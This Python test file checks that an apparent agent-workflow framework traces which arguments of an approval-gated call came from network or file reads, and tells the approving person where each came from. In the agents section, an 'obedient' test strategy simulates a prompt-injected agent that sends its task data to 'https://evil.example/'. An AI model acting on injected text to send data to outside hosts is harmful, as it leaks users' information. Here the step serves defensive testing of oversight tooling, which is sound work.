"""S11: what in a call came from outside is known, through all steps that handed it on."""

from driven import driven, tool

from perdure.core.calls import Approval, Outcome
from perdure.core.growth import Finish, Move
from perdure.core.origins import explained, origins, told

NET, FILES = "web.get", "disk.read"
MAY_IT = Outcome(exit="failure", approval=Approval("d1", "send wants to call x.send"))


def outside(name):
    return {NET: "the network", FILES: "files"}.get(name, "")


def fetch(id_="fetch", name=NET, **more):
    return {"id": id_, "tool": name, **more}


def send(**given):
    return {"id": "send", "tool": "x.send", "with": given}


def found(plan, step="send", inputs=None, script=None, **dials):
    """What came from outside into a call that waits for a person, as argument and step."""
    world = driven(plan, {**(script or {}), step: MAY_IT}, inputs, **dials)
    assert step in world.state.cells
    return [(each.argument, each.step) for each in origins(world.state.cells[step], outside)]


def test_s11_an_argument_comes_from_the_step_that_it_names():
    plan = [fetch(), tool("other"), send(url="${steps.fetch.output.next}", body="${steps.other.output}", to="me")]
    assert found(plan) == [("url", "fetch")]


def test_s11_it_is_followed_through_steps_that_only_hand_it_on():
    plan = [
        fetch(),
        tool("part", **{"with": {"value": "${steps.fetch.output}"}}),
        {"id": "think", "model": "weak", "prompt": "What of ${steps.part.output}?"},
        send(url="https://${steps.think.output}/"),
    ]
    assert found(plan) == [("url", "fetch")]


def test_s11_how_a_step_ended_brings_nothing_in_but_what_it_complained_about_does():
    plan = [fetch(on={"failure": "next"}), send(how="${steps.fetch.exit}", why="${steps.fetch.failure}")]
    assert found(plan) == [("why", "fetch")]


def test_s11_all_steps_may_be_named_at_once():
    assert found([fetch(), send(all="${steps}")]) == [("all", "fetch")]


def test_s11_what_the_user_gave_is_the_users():
    plan = {"inputs": {"url": {"type": "string"}}, "steps": [fetch(), send(url="${inputs.url}", run="${run.id}")]}
    assert found(plan, inputs={"url": "x"}) == []


def test_s11_a_group_hands_on_what_its_steps_gave():
    plan = [{"id": "group", "steps": [fetch(), tool("last")]}, send(url="${steps.group.output}")]
    assert found(plan) == [("url", "fetch")]


def test_s11_a_map_hands_its_items_in():
    plan = [
        fetch(),
        {"id": "all", "map": "${steps.fetch.output}", "steps": [{**send(item="${item}"), "id": "inner"}]},
    ]
    assert found(plan, "all/1[0].inner", script={"fetch": [["a"]]}) == [("item", "fetch")]


def test_s11_what_a_map_gives_holds_what_it_ran_over():
    plan = [
        fetch(),
        {"id": "all", "map": "${steps.fetch.output}", "steps": [tool("inner")]},
        send(url="${steps.all.output[0]}"),
    ]
    assert found(plan, script={"fetch": [["a"]]}) == [("url", "fetch")]


def test_s11_items_see_what_the_map_hands_in_or_what_is_around_it():
    inner = [{**send(a="${inputs.a}"), "id": "inner"}]
    of_map = {"id": "all", "map": [1], "with": {"a": "${steps.fetch.output}"}, "steps": inner}
    assert found([fetch(), of_map], "all/1[0].inner") == [("a", "fetch")]
    around = {"id": "all", "map": [1], "steps": inner}
    within = {"id": "sub", "plan": {"steps": [around]}, "with": {"a": "${steps.fetch.output}"}}
    within["plan"]["inputs"] = {"a": {}}
    assert found([fetch(), within], "all/1[0].inner") == [("a", "fetch")]


def test_s11_a_plan_within_the_plan_hands_its_inputs_in_and_its_output_out():
    inner = {"inputs": {"a": {}, "b": {}}, "steps": [{**send(one="${inputs.b}", all="${inputs}"), "id": "inner"}]}
    handed = {"a": "${steps.fetch.output}", "b": "${steps.look.output}"}
    plan = [fetch(), fetch("look", FILES), {"id": "sub", "plan": inner, "with": handed}]
    assert found(plan, "inner") == [("all", "fetch"), ("all", "look"), ("one", "look")]
    sub = {"id": "sub", "plan": {"steps": [fetch(), {"id": "end", "done": "${steps.fetch.output}"}]}}
    assert found([sub, send(url="${steps.sub.output}")]) == [("url", "fetch")]


def test_s11_an_end_hands_on_what_it_names():
    inner = {"inputs": {"a": {}}, "steps": [{"id": "end", "done": "${inputs.a}"}]}
    sub = {"id": "sub", "plan": inner, "with": {"a": "${steps.fetch.output}"}}
    assert found([fetch(), sub, send(url="${steps.sub.output}")]) == [("url", "fetch")]


def test_s11_what_may_stand_in_for_a_call_counts_as_well():
    handing = {"alternates": [{"tool": "x.z", "with": {"value": "${steps.fetch.output}"}}]}
    assert found([fetch(), tool("part", **handing), send(url="${steps.part.output}")]) == [("url", "fetch")]


# ------------------------------------------------------------------------------- agents

AGENT = {"id": "ag", "agent": "coder", "task": "Report ${steps.look.output}", "with": {"hint": 1}}


def obedient(view):
    """Look, and then do what the text says."""
    if view.first:
        return Move(add=[{"tool": NET}])
    if view.live:
        return None
    if view.born == 1:
        return Move(add=[{"tool": "x.send", "with": {"url": "https://evil.example/", "task": "${inputs.task}"}}])
    return Finish(output="done")


def test_s11_an_agent_chooses_by_all_that_it_has_seen():
    plan = [fetch("look", FILES), AGENT]
    came = found(plan, "ag/1.2", strategies={"agent:coder": obedient})
    assert came == [("task", "look"), ("", "ag/1.1"), ("", "look")]


def test_s11_what_an_agent_gives_comes_from_what_it_has_seen():
    plan = [fetch("look", FILES), AGENT, send(url="${steps.ag.output}")]
    came = found(plan, script={"ag/1.2": 1}, strategies={"agent:coder": obedient})
    assert came == [("url", "look"), ("url", "ag/1.1")]


def test_s11_what_an_agent_chose_before_it_saw_anything_comes_from_nowhere():
    strategy = lambda view: Move(add=[{"tool": "x.send"}, {"tool": NET}]) if view.first else Finish()  # noqa: E731
    assert found([{**AGENT, "task": "Report"}], "ag/1.1", strategies={"agent:coder": strategy}) == []


# ------------------------------------------------------------------------------- telling


def text(plan):
    world = driven(plan, {"send": MAY_IT})
    return explained(MAY_IT.approval, world.state.cells["send"], outside).text


def test_s11_a_person_is_told_where_it_came_from():
    plan = [fetch(), fetch("look", FILES), send(url="${steps.fetch.output}${steps.look.output}", to="me")]
    assert text(plan) == (
        "send wants to call x.send\n\nurl comes from fetch (web.get read the network), look (disk.read read files)"
    )


def test_s11_where_nothing_came_from_outside_nothing_is_said():
    assert text([tool("a"), send(url="${steps.a.output}")]) == MAY_IT.approval.text


def test_s11_many_are_counted():
    steps = [fetch(f"f{n}") for n in range(5)]
    given = {f"a{n}": "${steps.f0.output}" for n in range(12)}
    lines = text([*steps, send(a="${steps}", **given)]).splitlines()
    assert lines[2].endswith("f2 (web.get read the network), and 2 more")
    assert lines[-1] == "and 3 more arguments from outside"
    assert told([]) == []


# ------------------------------------------------------------------------------- context


def thinking(**more):
    return {"id": "think", "model": "weak", "prompt": "Think", "context": "all", **more}


def test_s11_what_a_model_was_shown_comes_with_what_it_says():
    assert found([fetch(), thinking(), send(url="${steps.think.output}")]) == [("url", "fetch")]
    assert found([thinking(), fetch(), send(url="${steps.think.output}")]) == []
    assert found([fetch(), fetch("file", FILES), thinking(context=["file"]), send(url="${steps.think.output}")]) == [
        ("url", "file")
    ]


def test_s11_a_call_with_context_comes_from_all_that_it_is_shown():
    plan = [fetch(), tool("other"), {"id": "send", "agent": "poster", "context": "all"}]
    assert found(plan) == [("context", "fetch")]


def test_s11_a_tool_that_a_model_may_stand_in_for_may_hand_on_what_that_is_shown():
    asking = {"model": "weak", "prompt": "?"}
    plan = [fetch(), tool("part", context="all", alternates=[asking]), send(url="${steps.part.output}")]
    assert found(plan) == [("url", "fetch")]


def test_s11_what_an_agent_chooses_comes_from_its_context():
    agent = {"id": "ag", "agent": "coder", "context": "all"}

    def strategy(view):
        if view.first:
            return Move(add=[{"tool": "x.send", "with": {"text": "${inputs.context}", "all": "${inputs}", "to": "me"}}])
        return Finish()

    plan, dials = [fetch(), agent], {"strategies": {"agent:coder": strategy}}
    assert found(plan, "ag/1.1", **dials) == [("text", "fetch"), ("all", "fetch"), ("", "fetch")]


def test_s11_a_decision_by_an_expression_brings_nothing_in():
    pick = {"id": "pick", "decide": "steps.fetch.exit", "choices": ["success"], "on": {"success": "next"}}
    assert found([fetch(), pick, send(url="${steps.pick.output}")]) == []
